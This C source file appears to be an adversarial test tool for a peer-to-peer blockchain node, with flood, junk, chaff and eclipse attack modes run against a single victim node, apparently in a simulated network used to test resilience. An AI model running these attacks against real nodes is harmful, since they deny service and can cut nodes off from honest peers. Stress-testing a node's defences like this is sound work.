/* Strangers that mean harm to one node; each kind ends by itself and prints one line of what it did.
 *
 *   attacker NETWORK VICTIM FIRST COUNT flood CONNECTIONS SECONDS   so many TCP connections, most of them silent, some with junk, some half-way through a handshake
 *   attacker NETWORK VICTIM FIRST COUNT junk MESSAGES SECONDS       joins as a peer, sends random bodies of every type; thrown out, it comes again from the next address
 *   attacker NETWORK VICTIM FIRST COUNT chaff MESSAGES SECONDS      the same with well-formed announcements and requests of things that there are not
 *   attacker NETWORK VICTIM FIRST COUNT eclipse PORT SECONDS        all addresses join and stay, name each other to the victim, and listen at PORT for it
 * NETWORK: the network's file. FIRST COUNT: the addresses that it comes from, "10.66.0.1" 500. */
#include <arpa/inet.h>
#include <sodium.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <unistd.h>

#include "core/codec.h"
#include "core/key.h"
#include "core/network.h"

#include "session.h"

#define GET_ADDRESSES 4u
#define ADDRESSES     5u
#define INV           17u
#define GET           18u
#define OPEN_MAX      2000u

typedef struct
{
  TcHash      chain_id;
  const char *victim;
  guint32     first, count;
  guint16     port;
  gint64      until_us;
  gint        n_in, n_out, n_asked;   /* atomic: joined; were dialled by the victim; address lists asked for */
} Attack;

static void
source_text (const Attack *self, guint32 i, char text[INET_ADDRSTRLEN])
{
  struct in_addr address = { htonl (self->first + i % self->count) };

  inet_ntop (AF_INET, &address, text, INET_ADDRSTRLEN);
}

/* --- flood --- */

static void
send_something (int fd, guint32 i)
{
  guint8 bytes[300];
  gsize n = i % 3 == 0 ? 0 : i % 3 == 1 ? 34 : sizeof bytes;

  randombytes_buf (bytes, sizeof bytes);
  if (n == 34)  /* a first handshake message, and then nothing */
    {
      bytes[0] = 0;
      bytes[1] = 32;
    }
  if (n > 0 && send (fd, bytes, n, MSG_NOSIGNAL | MSG_DONTWAIT) < 0)
    return;
}

static void
flood (Attack *self, guint32 n, guint32 seconds)
{
  g_autofree int *open = g_new (int, OPEN_MAX);
  gint64 begin_us = g_get_monotonic_time ();
  guint32 refused = 0;

  memset (open, -1, OPEN_MAX * sizeof *open);
  for (guint32 i = 0; i < n; i++)
    {
      char source[INET_ADDRSTRLEN];
      gint64 due_us = begin_us + (gint64) seconds * G_USEC_PER_SEC * i / n;
      int *slot = &open[i % OPEN_MAX];

      if (due_us > g_get_monotonic_time ())
        g_usleep ((gulong) (due_us - g_get_monotonic_time ()));
      if (*slot >= 0)
        close (*slot);
      source_text (self, i, source);
      *slot = session_dial (source, self->victim);
      if (*slot < 0)
        refused++;
      else
        send_something (*slot, i);
    }
  printf ("flood connections=%u refused=%u seconds=%.1f\n", n, refused, (double) (g_get_monotonic_time () - begin_us) / G_USEC_PER_SEC);
}

/* --- junk --- */

static gboolean
send_junk (Session *session)
{
  guint8 body[2048];
  guint8 type = (guint8) (4 + randombytes_uniform (40));
  gsize n = randombytes_uniform (4) > 0 ? randombytes_uniform (64) : randombytes_uniform (sizeof body);

  randombytes_buf (body, n);
  if (n > 0 && randombytes_uniform (2) == 0)
    body[0] = (guint8) randombytes_uniform (8);
  return session_send (session, type, body, n);
}

/* kind u8 | varint n | n x hash */
static gboolean
send_chaff (Session *session)
{
  guint8 body[2 + 20 * TC_HASH_SIZE];
  guint8 n = (guint8) (1 + randombytes_uniform (20));

  body[0] = (guint8) (1 + randombytes_uniform (2));
  body[1] = n;
  randombytes_buf (body + 2, (gsize) n * TC_HASH_SIZE);
  return session_send (session, randombytes_uniform (4) > 0 ? INV : GET, body, 2 + (gsize) n * TC_HASH_SIZE);
}

/* Until all is sent or the time is over: the victim lets in so many a second, and bans who misbehaves, so that it may never be sent all. */
static void
junk (Attack *self, guint32 n_messages, gboolean (*send_one) (Session *session), const char *name)
{
  guint32 sent = 0, thrown_out = 0, tries = 0;

  while (sent < n_messages && g_get_monotonic_time () < self->until_us)
    {
      char source[INET_ADDRSTRLEN];
      g_autoptr(Session) session = NULL;

      source_text (self, tries++, source);
      session = session_connect (&self->chain_id, source, self->victim, 1000000 + tries, 0);
      if (session == NULL)
        {
          g_usleep (5000);
          continue;
        }
      while (sent < n_messages && g_get_monotonic_time () < self->until_us)
        {
          if (!send_one (session))
            {
              thrown_out++;
              break;
            }
          sent++;
        }
    }
  printf ("%s messages=%u thrown_out=%u tries=%u\n", name, sent, thrown_out, tries);
}

/* --- eclipse --- */

typedef struct
{
  Attack *attack;
  guint32 index;
  int     fd;      /* of an accepted connection, or -1 */
} Actor;

static GByteArray *
list_friends (const Attack *self)
{
  GByteArray *bytes = g_byte_array_new ();
  guint32 n = MIN (self->count, 1000);

  tc_put_varint (bytes, n);
  for (guint32 i = 0; i < n; i++)
    {
      guint8 address[16] = { [10] = 0xff, [11] = 0xff };
      guint32 v4 = htonl (self->first + i);

      memcpy (address + 12, &v4, 4);
      tc_put_u32 (bytes, (guint32) (g_get_real_time () / G_USEC_PER_SEC));
      tc_put_bytes (bytes, address, sizeof address);
      tc_put_u16 (bytes, self->port);
    }
  return bytes;
}

static void
stay (Attack *self, Session *session)
{
  g_autoptr(GByteArray) friends = list_friends (self);
  gboolean over = FALSE;

  session_send (session, ADDRESSES, friends->data, friends->len);
  while (!over && g_get_monotonic_time () < self->until_us)
    {
      guint8 type;
      g_autoptr(GBytes) body = NULL;

      if (session_read (session, 1000, &type, &body, &over) && type == GET_ADDRESSES)
        {
          g_atomic_int_inc (&self->n_asked);
          over = !session_send (session, ADDRESSES, friends->data, friends->len);
        }
    }
}

static gpointer
act (gpointer data)
{
  g_autofree Actor *self = data;
  Attack *attack = self->attack;

  if (self->fd >= 0)
    {
      g_autoptr(Session) session = session_accept (&attack->chain_id, self->fd, 5000000 + self->index, attack->port);

      if (session != NULL)
        {
          g_atomic_int_inc (&attack->n_out);
          stay (attack, session);
        }
      return NULL;
    }
  while (g_get_monotonic_time () < attack->until_us)
    {
      char source[INET_ADDRSTRLEN];
      g_autoptr(Session) session = NULL;

      source_text (attack, self->index, source);
      session = session_connect (&attack->chain_id, source, attack->victim, 2000000 + self->index, attack->port);
      if (session != NULL)
        {
          g_atomic_int_inc (&attack->n_in);
          stay (attack, session);
        }
      g_usleep (G_USEC_PER_SEC);
    }
  return NULL;
}

static void
start_actor (Attack *attack, guint32 index, int fd)
{
  Actor *actor = g_new (Actor, 1);

  *actor = (Actor) { attack, index, fd };
  g_thread_unref (g_thread_new ("actor", act, actor));
}

static void
eclipse (Attack *self)
{
  struct sockaddr_in any = { .sin_family = AF_INET, .sin_port = htons (self->port) };
  int listener = socket (AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0), one = 1;

  setsockopt (listener, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  if (bind (listener, (struct sockaddr *) &any, sizeof any) != 0 || listen (listener, 256) != 0)
    {
      perror ("attacker: cannot listen");
      exit (1);
    }
  for (guint32 i = 0; i < self->count; i++)
    start_actor (self, i, -1);
  for (guint32 i = 0; g_get_monotonic_time () < self->until_us; i++)
    {
      int fd = accept4 (listener, NULL, NULL, SOCK_CLOEXEC);

      if (fd >= 0)
        start_actor (self, i, fd);
      else
        g_usleep (10000);
    }
  printf ("eclipse joined=%d dialled=%d asked=%d\n", g_atomic_int_get (&self->n_in), g_atomic_int_get (&self->n_out), g_atomic_int_get (&self->n_asked));
}

int
main (int argc, char **argv)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TcNetwork) network = NULL;
  struct rlimit files;
  static Attack attack;  /* actors are still at it when this returns */
  Attack *self = &attack;
  struct in_addr first;

  if (argc != 8 || inet_pton (AF_INET, argv[3], &first) != 1)
    {
      fprintf (stderr, "usage: attacker NETWORK VICTIM FIRST COUNT flood|junk|chaff|eclipse …\n");
      return 2;
    }
  if (getrlimit (RLIMIT_NOFILE, &files) == 0)
    {
      files.rlim_cur = files.rlim_max;
      setrlimit (RLIMIT_NOFILE, &files);
    }
  tc_crypto_init ();
  network = tc_network_load (argv[1], &error);
  if (network == NULL)
    {
      fprintf (stderr, "attacker: %s\n", error->message);
      return 2;
    }
  self->chain_id = network->genesis->chain_id;
  self->victim = argv[2];
  self->first = ntohl (first.s_addr);
  self->count = MAX ((guint32) atoi (argv[4]), 1u);
  self->until_us = g_get_monotonic_time () + atoi (argv[7]) * G_USEC_PER_SEC;
  if (strcmp (argv[5], "flood") == 0)
    flood (self, (guint32) atoi (argv[6]), (guint32) atoi (argv[7]));
  else if (strcmp (argv[5], "junk") == 0)
    junk (self, (guint32) atoi (argv[6]), send_junk, "junk");
  else if (strcmp (argv[5], "chaff") == 0)
    junk (self, (guint32) atoi (argv[6]), send_chaff, "chaff");
  else if (strcmp (argv[5], "eclipse") == 0)
    {
      self->port = (guint16) atoi (argv[6]);
      eclipse (self);
    }
  return 0;
}
